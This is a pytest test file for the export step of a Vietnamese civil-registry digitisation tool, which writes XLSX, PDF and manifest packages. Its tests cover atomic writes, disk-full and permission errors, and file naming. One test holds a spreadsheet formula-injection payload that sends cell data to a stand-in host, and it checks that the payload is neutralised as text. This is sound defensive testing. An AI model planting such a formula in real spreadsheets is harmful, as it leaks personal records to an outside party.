"""loaders/export.py: the package of a book (XLSX, PDFs, manifest), written whole or not at all."""

from __future__ import annotations

import errno
import hashlib
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, select
from test_loaders_approval import BIRTHS, T0, add_user, get_book, page_png, stage_page

from loaders import export as export_module
from loaders.approval import approve
from loaders.db import session_scope
from loaders.export import (
    ExportFile,
    export_book,
    export_columns,
    package_is_current,
    package_name,
    record_box,
)
from loaders.models import AuditLog
from loaders.official import load_approved
from sohoa.errors import DataDirError, NotFoundError
from sohoa.fields import BOOK_TYPES

PACKAGE = "01234_birth_2006-2015_q01"  # volume "1" is registered as "01"


def _loaded_book(engine: Engine, book_id: int, tmp_path: Path, rows: list[dict[str, str]]) -> list[int]:
    """Stage ``rows`` on a real page image, approve them all and load them."""
    with session_scope(engine) as session:
        image = page_png(tmp_path / "scans", "p0001.png", len(rows))
        ids = stage_page(session, get_book(session, book_id), rows, image=image)
        lan = add_user(session, "lan")
        for rid in ids:
            approve(session, rid, lan, 1, now=T0)
    with session_scope(engine) as session:
        load_approved(session, "01234", actor="loader")
    return ids


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_export_writes_spreadsheet_pdfs_and_manifest(engine: Engine, book_id: int, tmp_path: Path) -> None:
    ids = _loaded_book(engine, book_id, tmp_path, BIRTHS)
    out = tmp_path / "out"
    with session_scope(engine) as session:
        result = export_book(session, book_id, out, actor="loader")
    package = out / PACKAGE
    assert result.path == package and result.records == 3
    assert sorted(p.name for p in out.iterdir()) == [PACKAGE]  # no temporary folder left

    sheet = load_workbook(package / "records.xlsx").active
    assert sheet is not None
    headers = [c.value for c in sheet[1]]
    assert headers == [c.header for c in export_columns("birth")]
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    rows = [dict(zip(headers, (c.value for c in r), strict=True)) for r in sheet.iter_rows(min_row=2)]
    assert [r["Số"] for r in rows] == ["12", "13", "14"]
    assert rows[0]["STT"] == 1 and rows[0]["Họ, chữ đệm, tên người được khai sinh"] == "Nông Văn An"
    assert rows[0]["Ngày, tháng, năm đăng ký"] == "05/03/2008" and rows[0]["Dân tộc"] in ("", None)
    assert rows[2]["Tệp ảnh (PDF)"] == f"pdf/{PACKAGE}_14.pdf"

    pdfs = sorted(p.name for p in (package / "pdf").iterdir())
    assert pdfs == [f"{PACKAGE}_12.pdf", f"{PACKAGE}_13.pdf", f"{PACKAGE}_14.pdf"]
    assert all((package / "pdf" / name).read_bytes().startswith(b"%PDF") for name in pdfs)

    manifest = json.loads((package / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["package"] == PACKAGE and manifest["book"]["volume"] == "01"
    assert [r["record_id"] for r in manifest["records"]] == ids
    listed = {f["path"]: f for f in manifest["files"]}
    assert set(listed) == {"records.xlsx", *(f"pdf/{n}" for n in pdfs)}
    for rel, entry in listed.items():
        assert entry["sha256"] == _sha(package / rel) and entry["bytes"] == (package / rel).stat().st_size
    assert result.manifest_sha256 == _sha(package / "manifest.json")

    with session_scope(engine) as session:
        done = session.scalars(select(AuditLog).where(AuditLog.action == "export")).one()
        assert done.entity == "book" and done.entity_id == str(book_id) and done.actor == "loader"
        assert done.after is not None and done.after["path"] == str(package)
        assert package_is_current(session, book_id, out)


def test_duplicate_or_missing_numbers_name_pdfs_by_page_and_row(
    engine: Engine, book_id: int, tmp_path: Path
) -> None:
    rows = [dict(BIRTHS[0]), dict(BIRTHS[1], **{"registration.number": "12"}), dict(BIRTHS[2])]
    del rows[2]["registration.number"]
    _loaded_book(engine, book_id, tmp_path, rows)
    with session_scope(engine) as session:
        result = export_book(session, book_id, tmp_path / "out")
    assert sorted(p.name for p in (result.path / "pdf").iterdir()) == [
        f"{PACKAGE}_p1r1.pdf",
        f"{PACKAGE}_p1r2.pdf",
        f"{PACKAGE}_p1r3.pdf",
    ]


def test_a_full_disk_leaves_no_package_and_keeps_the_older_one(
    engine: Engine, book_id: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _loaded_book(engine, book_id, tmp_path, BIRTHS)
    out = tmp_path / "out"
    with session_scope(engine) as session:
        export_book(session, book_id, out)
    old_manifest = (out / PACKAGE / "manifest.json").read_bytes()
    real, calls = export_module._write, []

    def full_disk(path: Path, data: bytes) -> None:
        calls.append(path)
        if len(calls) == 3:
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        real(path, data)

    monkeypatch.setattr(export_module, "_write", full_disk)
    with pytest.raises(DataDirError) as caught, session_scope(engine) as session:
        export_book(session, book_id, out)
    message = str(caught.value)
    assert f"không ghi được gói dữ liệu {out / PACKAGE} (No space left on device)" in message
    assert "giải phóng dung lượng đĩa" in message and "chạy lại `sohoa load`" in message
    assert sorted(p.name for p in out.iterdir()) == [PACKAGE]  # the half package is gone
    assert (out / PACKAGE / "manifest.json").read_bytes() == old_manifest
    with session_scope(engine) as session:
        assert len(session.scalars(select(AuditLog).where(AuditLog.action == "export")).all()) == 1


def test_a_first_export_on_a_full_disk_leaves_nothing(
    engine: Engine, book_id: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _loaded_book(engine, book_id, tmp_path, BIRTHS[:1])
    out = tmp_path / "out"

    def no_space(path: Path, data: bytes) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(export_module, "_write", no_space)
    with pytest.raises(DataDirError), session_scope(engine) as session:
        export_book(session, book_id, out)
    assert list(out.iterdir()) == []
    with session_scope(engine) as session:
        assert not package_is_current(session, book_id, out)
        assert session.scalars(select(AuditLog).where(AuditLog.action == "export")).first() is None


def test_permission_denied_says_to_make_the_folder_writable(
    engine: Engine, book_id: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _loaded_book(engine, book_id, tmp_path, BIRTHS[:1])

    def denied(path: Path, data: bytes) -> None:
        raise PermissionError(errno.EACCES, "Permission denied", str(path))

    monkeypatch.setattr(export_module, "_write", denied)
    writable = "cấp quyền ghi .* cho người dùng này, hoặc chọn --out khác"
    with pytest.raises(DataDirError, match=writable), session_scope(engine) as session:
        export_book(session, book_id, tmp_path / "out")


def test_package_is_current_until_a_new_record_is_loaded(
    engine: Engine, book_id: int, tmp_path: Path
) -> None:
    _loaded_book(engine, book_id, tmp_path, BIRTHS[:2])
    out = tmp_path / "out"
    with session_scope(engine) as session:
        assert not package_is_current(session, book_id, out)
        export_book(session, book_id, out)
        assert package_is_current(session, book_id, out)
        book = get_book(session, book_id)
        more = stage_page(session, book, BIRTHS[2:], page_no=2)
        approve(session, more[0], add_user(session, "minh"), 1, now=T0)
    with session_scope(engine) as session:
        load_approved(session, "01234", actor="loader")
        assert not package_is_current(session, book_id, out)
        with pytest.raises(NotFoundError):
            package_is_current(session, 10_000, out)


def test_names_boxes_and_config() -> None:
    class FakeBook:
        office_code, book_type, era, volume = "01234", "birth", "2016+", "02/2018 (A)"

    assert package_name(FakeBook()) == "01234_birth_2016+_q02-2018-A"  # type: ignore[arg-type]
    fields = {"a": {"bbox": [10, 20, 30, 40]}, "b": {"bbox": [100, 25, 10, 10]}, "c": {"bbox": None}}
    assert record_box(fields) == (10, 20, 110, 60)
    assert record_box({"a": {"text": "x"}}) is None
    columns = {t: [{"field": "meta.row", "header": "STT"}] for t in BOOK_TYPES}
    assert ExportFile.model_validate({"book_types": columns})
    with pytest.raises(ValueError, match="không phải mã trường của bản ghi birth"):
        ExportFile.model_validate(
            {"book_types": {**columns, "birth": [{"field": "bride.full_name", "header": "x"}]}}
        )
    with pytest.raises(ValueError, match="thiếu cột cho các loại sổ"):
        ExportFile.model_validate({"book_types": {"birth": columns["birth"]}})


def test_a_note_that_looks_like_a_formula_is_exported_as_text(
    engine: Engine, book_id: int, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://evil.example/?d="&B2,"Bấm vào đây")'
    rows = [dict(BIRTHS[0], note=evil), dict(BIRTHS[1], note="-1+1"), dict(BIRTHS[2], note="Đăng ký lại")]
    _loaded_book(engine, book_id, tmp_path, rows)
    with session_scope(engine) as session:
        result = export_book(session, book_id, tmp_path / "out")
    sheet = load_workbook(result.path / "records.xlsx").active
    assert sheet is not None
    headers = [c.value for c in sheet[1]]
    notes = [r[headers.index("Ghi chú")] for r in sheet.iter_rows(min_row=2)]
    assert [c.value for c in notes] == [evil, "-1+1", "Đăng ký lại"]
    assert all(c.data_type == "s" for c in notes) and notes[0].quotePrefix and notes[1].quotePrefix
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert [r[0].value for r in sheet.iter_rows(min_row=2)] == [1, 2, 3]  # numbers stay numbers
